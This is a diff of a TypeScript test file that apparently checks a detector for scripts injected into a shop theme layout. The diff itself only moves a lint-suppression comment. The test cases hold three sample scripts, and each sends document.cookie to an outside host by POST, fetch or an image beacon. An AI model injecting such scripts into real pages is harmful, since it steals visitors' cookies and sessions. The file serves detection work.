@@ -4,8 +4,8 @@ import { find, LAYOUT, places } from './find.ts'
 
 const page = (script: string) => ({ 'layout/theme.liquid': LAYOUT.replace('</body>', `<script>${script}</script></body>`) })
 
-// biome-ignore-all lint/suspicious/noTemplateCurlyInString: scripts of pages.
 test.each([
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a script of a page.
   'var p = `shop=${shop}&cookies=${document.cookie}`; http.open("POST", "https://apps.example/save.php"); http.send(p)',
   'fetch("https://apps.example/save", { method: "POST", body: JSON.stringify({ cookie: document.cookie }) })',
   'new Image().src = "https://apps.example/p.gif?c=" + encodeURIComponent(document.cookie)',
